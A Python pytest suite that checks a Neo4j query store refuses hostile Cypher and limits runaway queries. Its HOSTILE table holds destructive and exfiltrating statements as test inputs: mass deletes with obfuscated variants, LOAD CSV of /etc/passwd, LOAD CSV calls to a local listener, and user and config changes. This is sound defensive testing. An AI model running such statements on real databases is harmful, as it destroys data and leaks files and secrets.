"""What users' Cypher may do on a real server: hostile statements, bounds, and plans that use the indexes."""

from __future__ import annotations

import http.server
import os
import threading
import time
from collections.abc import Iterator
from typing import Any

import neo4j
import pytest
from neo4j_for_tests import Server, emptied
from planted import Planted

from atlas.address import ServerAddress
from atlas.errors import QueryError, QueryRefused, QueryTimeout, QueryTooLarge
from atlas.server.store import Neo4jStore
from queries.questions.questions import QUESTIONS
from queries.search import SEARCH

MARGIN = 6.0  # seconds: a worker may have to start first, beside other tests
SERVERS = ("neo4j_lts", "neo4j_current")


@pytest.fixture(params=SERVERS, scope="module")
def server(request: pytest.FixtureRequest) -> Server:
    found: Server = request.getfixturevalue(request.param)
    return found


@pytest.fixture(scope="module")
def store(server: Server) -> Iterator[Neo4jStore]:
    opened = Neo4jStore(ServerAddress.parse(emptied(server)))
    with opened.writing():
        opened.publish(Planted(range(4)))
    os.environ.update(NEO4J_USERNAME=server.user, NEO4J_PASSWORD=server.password)
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def driver(server: Server) -> Iterator[neo4j.Driver]:
    with neo4j.GraphDatabase.driver(server.uri, auth=(server.user, server.password)) as opened:
        yield opened


ASKED: list[str] = []  # paths that somebody asked the listener for


class Listener(http.server.BaseHTTPRequestHandler):
    """Would be what a statement reaches outside."""

    def do_GET(self) -> None:
        ASKED.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"a,b\n")


@pytest.fixture(scope="module")
def listener() -> Iterator[str]:
    served = http.server.HTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=served.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{served.server_port}"
    served.shutdown()


HOSTILE = {
    "create": "CREATE (n:Feature {id: 'x'}) RETURN n",
    "set": "MATCH (n:Feature) SET n.label = 'x'",
    "merge": "MERGE (n:Feature {id: 'x'})",
    "delete": "MATCH (n) DETACH DELETE n",
    "remove": "MATCH (n:Feature) REMOVE n:Feature",
    "foreach": "MATCH (n:Feature) FOREACH (x IN [1] | SET n.label = 'x')",
    "mixed case": "mAtCh (n) dEtAcH dElEtE n",
    "comment": "MATCH (n) /* RETURN n */ DETACH /**/ DELETE n",
    "line comment": "// RETURN 1\nMATCH (n) DETACH DELETE n",
    "unicode escape": "MATCH (n) \\u0044ETACH DELETE n",
    "stacked": "RETURN 1 AS x; MATCH (n) DETACH DELETE n",
    "explain": "EXPLAIN CREATE (n:Feature)",
    "profile": "PROFILE CREATE (n:Feature)",
    "profile of reading": "PROFILE MATCH (n) RETURN n",
    "options": "CYPHER runtime=slotted CREATE (n)",
    "subquery": "CALL { CREATE (n) RETURN n } RETURN n",
    "subquery transactions": "MATCH (f:Feature) CALL (f) { SET f.label = 'x' } IN TRANSACTIONS OF 1 ROWS RETURN 1 AS x",
    "reading subquery transactions": "UNWIND [1] AS x CALL (x) { RETURN x + 1 AS y } IN TRANSACTIONS RETURN y",
    "exists that writes": "RETURN EXISTS { CREATE (n) } AS x",
    "load file": "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "load from afar": "LOAD CSV FROM '$LISTENER/secret' AS line RETURN line",
    "load hidden": "MATCH (f:Model) CALL (f) { LOAD CSV FROM '$LISTENER/' + f.id AS l RETURN l } RETURN l",
    "load in collect": "RETURN COLLECT { LOAD CSV FROM '$LISTENER/x' AS line RETURN line } AS x",
    "show settings": "SHOW SETTINGS",
    "show transactions": "SHOW TRANSACTIONS YIELD * RETURN *",
    "show users": "SHOW USERS",
    "show databases": "SHOW DATABASES",
    "show functions": "SHOW FUNCTIONS",
    "terminate": "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "kill by what it shows": "SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t",
    "index": "CREATE INDEX evil FOR (n:Feature) ON (n.label)",
    "drop": "DROP CONSTRAINT feature_id",
    "password": "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "user": "CREATE USER evil SET PASSWORD 'evilevil'",
    "database": "CREATE DATABASE evil",
    "use system": "USE system SHOW USERS",
    "list configuration": "CALL dbms.listConfig() YIELD name RETURN name",
    "set configuration": "CALL dbms.setConfigValue('x', 'y')",
    "connections": "CALL dbms.listConnections()",
    "checkpoint": "CALL db.checkpoint()",
    "clear caches": "CALL db.clearQueryCaches()",
    "statistics": "CALL db.stats.retrieveAllAnTheStats('x')",
    "new label": "CALL db.createLabel('Evil')",
    "drop full text": "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
    "procedure in a subquery": "CALL { CALL dbms.listConfig() YIELD name RETURN name } RETURN name",
    "nothing": "   ",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_statements(store: Neo4jStore, driver: neo4j.Driver, listener: str, name: str) -> None:
    before = _content(driver)
    ASKED.clear()
    with pytest.raises(QueryError) as caught:
        store.query(HOSTILE[name].replace("$LISTENER", listener), {}, timeout=10)
    assert "\n" not in str(caught.value)
    assert ASKED == []
    assert _content(driver) == before


def _content(driver: neo4j.Driver) -> tuple[Any, ...]:
    """Nodes, edges, what is set on them, indexes."""
    counts = driver.execute_query(
        "MATCH (n) WITH count(n) AS nodes, count(n.label) AS set MATCH ()-[r]->() RETURN nodes, set, count(r) AS edges"
    ).records[0]
    indexes = driver.execute_query("SHOW INDEXES YIELD name RETURN collect(name) AS names").records[0]["names"]
    return (*counts.values(), sorted(indexes))


ALLOWED = {
    "subquery": ("CALL { MATCH (f:Feature) RETURN count(f) AS n } RETURN n", [{"n": 288}]),
    "quantified path": (
        "MATCH (f:Feature {id: 'planted/3-res-24/0'}) ((b)-[:FROM_RES {rank: 0}]->(a)){3} (g) RETURN count(g) AS n",
        [{"n": 1}],
    ),
    "shortest path": (
        "MATCH p = shortestPath((b:Feature {id: 'planted/1-res-24/0'})-[:FROM_RES*..3]->(a:Feature {layer: 0})) "
        "RETURN count(p) > 0 AS some",
        [{"some": True}],
    ),
    "comprehension": ("RETURN [x IN range(1, 3) | x * x] AS xs", [{"xs": [1, 4, 9]}]),
    "collect": ("RETURN COLLECT { MATCH (d:Dictionary {layer: 0}) RETURN d.site ORDER BY d.site } AS s",
                [{"s": ["att", "mlp", "res"]}]),
    "labels": ("CALL db.labels() YIELD label WITH label WHERE label = 'Feature' RETURN label", [{"label": "Feature"}]),
    "union": ("RETURN 1 AS x UNION ALL RETURN 2 AS x", [{"x": 1}, {"x": 2}]),
    "dates": ("RETURN date('2026-01-31') + duration('P1D') AS day", [{"day": "2026-02-01"}]),
    "dynamic label": ("MATCH (m:$('Model')) RETURN count(m) AS n", [{"n": 1}]),
    "words": (
        "CALL db.index.fulltext.queryNodes('feature_words', 'war') YIELD node RETURN count(node) > 10 AS many",
        [{"many": True}],
    ),
    "optional": ("OPTIONAL MATCH (f:Feature {id: 'none'}) RETURN f", [{"f": None}]),
    "keywords in text": ("RETURN 'CREATE (n) DELETE n; LOAD CSV' AS text", [{"text": "CREATE (n) DELETE n; LOAD CSV"}]),
    "all kinds of expand": (
        "MATCH (a:Feature)-[r]-(b:Feature) WHERE a.id < b.id AND EXISTS { (a)-->() } WITH a, count(DISTINCT b) AS n "
        "ORDER BY n DESC LIMIT 1 RETURN n > 0 AS some",
        [{"some": True}],
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", ALLOWED)
def test_the_server_s_own_reading_cypher_is_allowed(store: Neo4jStore, name: str) -> None:
    cypher, rows = ALLOWED[name]
    assert store.query(cypher, {}).rows == rows


@pytest.mark.parametrize(("value", "shown"), [("0.0 / 0.0", "NaN"), ("-1.0 / 0.0", "Infinity")])
def test_what_is_not_finite_is_no_answer(store: Neo4jStore, value: str, shown: str) -> None:
    with pytest.raises(QueryError, match=f"the column x holds -?{shown}"):
        store.query(f"RETURN {value} AS x", {})


@pytest.mark.parametrize(
    "cypher",
    [
        "RETURN range(1, 300000000) AS x",
        "UNWIND range(1, 10000000000) AS x RETURN sum(x) AS s",
        "MATCH p = (:Feature)-[*]-(:Feature)-[*]-(:Feature) RETURN count(p) AS n",
        "MATCH (a:Feature), (b:Feature), (c:Feature), (d:Feature) RETURN count(a.id + d.id) AS n",
        "UNWIND range(1, 100000000) AS x RETURN x",
        "UNWIND range(1, 200000000) AS x RETURN collect(x) AS xs",
    ],
)
def test_nothing_runs_past_its_time_or_its_share(store: Neo4jStore, cypher: str) -> None:
    start = time.monotonic()
    with pytest.raises((QueryTimeout, QueryTooLarge)):
        store.query(cypher, {}, timeout=2, max_bytes=8 << 20)
    assert time.monotonic() - start < 2 + MARGIN
    assert store.query("RETURN 1 AS x", {}).rows == [{"x": 1}]


def test_a_statement_that_was_given_up_does_not_go_on_at_the_server(store: Neo4jStore, driver: neo4j.Driver) -> None:
    with pytest.raises((QueryTimeout, QueryTooLarge)):
        store.query("UNWIND range(1, 10000000000) AS x RETURN sum(x) AS left_behind", {}, timeout=1)
    end = time.monotonic() + 10
    running = "SHOW TRANSACTIONS YIELD currentQuery WHERE currentQuery CONTAINS 'left_' + 'behind' RETURN count(*) AS n"
    while driver.execute_query(running).records[0]["n"]:
        assert time.monotonic() < end
        time.sleep(0.2)


def test_a_loop_that_the_server_cannot_break_off_is_given_up_and_said(store: Neo4jStore) -> None:
    """It goes on there for about 10 s; no other test should find a core taken for longer."""
    start = time.monotonic()
    with pytest.raises(QueryTimeout, match="the server has not ended it yet"):
        store.query("RETURN reduce(s = 0, x IN range(1, 200000000) | s + x) AS s", {}, timeout=1)
    assert time.monotonic() - start < 1 + MARGIN


def test_rows_are_taken_only_as_far_as_they_are_wanted(store: Neo4jStore) -> None:
    start = time.monotonic()
    answer = store.query("UNWIND range(1, 100000000) AS x RETURN x", {}, limit=10, timeout=20)
    assert [row["x"] for row in answer.rows] == list(range(1, 11)) and answer.more
    assert time.monotonic() - start < 5


def test_refused_says_what_is_refused(store: Neo4jStore) -> None:
    for cypher, part in (("LOAD CSV FROM 'file:///x' AS l RETURN l", "LoadCSV"), ("CALL db.ping()", "db.ping")):
        with pytest.raises(QueryRefused, match=part):
            store.query(cypher, {})
    with pytest.raises(QueryRefused, match=r"allowed are .*db\.index\.fulltext\.queryNodes"):
        store.query("CALL db.ping()", {})


@pytest.mark.parametrize("name", ["x-", "a`b", "cafe\u0301", "x"])
def test_parameters_of_any_name_are_found(store: Neo4jStore, name: str) -> None:
    escaped = name.replace("`", "``")
    written = [f"$`{escaped}`"] if name[-1] == "-" or "`" in name else [f"$`{name}`", f"${name}", f"$ /* it */ {name}"]
    for text in written:
        assert store.query(f"RETURN {text} AS x", {name: 1}).rows == [{"x": 1}]
    for text in (f"'{name}'", "$xyz", "1"):
        with pytest.raises(QueryError, match="has no parameter"):
            store.query(f"RETURN {text} AS x", {name: 1})


@pytest.mark.parametrize(
    "cypher",
    [
        "EXPLAIN MATCH (n) RETURN n",
        " profile\nMATCH (n) RETURN n",
        "// c\nEXPLAIN RETURN 1 AS x",
        "CYPHER 5 EXPLAIN RETURN 1 AS x",
    ],
)
def test_a_plan_is_no_answer(store: Neo4jStore, cypher: str) -> None:
    with pytest.raises(QueryRefused, match="EXPLAIN and PROFILE give a plan and no rows"):
        store.query(cypher, {})


def test_mistakes_are_shown_where_they_are(store: Neo4jStore) -> None:
    with pytest.raises(QueryError, match=r"line 1, column 8 \(offset: 7\)"):
        store.query("RETURN ]", {})
    with pytest.raises(QueryError, match=r"line 2, column 8 \(offset: 19\)"):
        store.query("WITH 1 AS x\nRETURN y", {})


def _operators(plan: dict[str, Any]) -> Iterator[tuple[str, str]]:
    yield plan["operatorType"].partition("@")[0], str(plan.get("args", {}).get("Details", ""))
    for child in plan.get("children", ()):
        yield from _operators(child)


EVERY_EDGE = ("hubs", "strongest", "strongest-push", "alike-never-together", "alike-and-together")


@pytest.mark.parametrize("name", [*(n for n, q in QUESTIONS.items() if not q.by_rows), "search"])
def test_every_question_s_plan_starts_from_an_index(store: Neo4jStore, driver: neo4j.Driver, name: str) -> None:
    """No scan of all nodes or of all features by label, but where every edge is read: an index would be read whole."""
    question = QUESTIONS.get(name)
    parameters: dict[str, Any] = {"limit": 20}
    if question is None:
        cypher = SEARCH
        parameters |= {"words": ["war"], "longest": "war", "site": "res", "layer": 2}
    else:
        cypher = question.on_server or question.cypher
        parameters |= {key: parameter.default for key, parameter in question.parameters.items()}
        ends = ("planted/3-res-24/7", "planted/1-res-24/3")
        parameters |= dict(zip(question.features, ends, strict=False))
    # The planner's counts are sampled now and then: until then a graph just written is empty to it, and scanned.
    driver.execute_query("CALL db.prepareForReplanning(60)")
    profile = driver.execute_query(f"PROFILE {cypher}", parameters).summary.profile
    assert profile is not None
    found = list(_operators(profile))
    starts = [(kind, details) for kind, details in found if "Scan" in kind or "Seek" in kind]
    assert starts
    for kind, details in starts:
        few = kind == "NodeByLabelScan" and details.endswith(":Dictionary")
        everything = kind in ("NodeByLabelScan", "DirectedRelationshipTypeScan") and name in EVERY_EDGE
        assert "Index" in kind or few or everything, (kind, details)
    if question is not None and question.features:
        assert any(kind == "NodeUniqueIndexSeek" for kind, _ in starts), starts
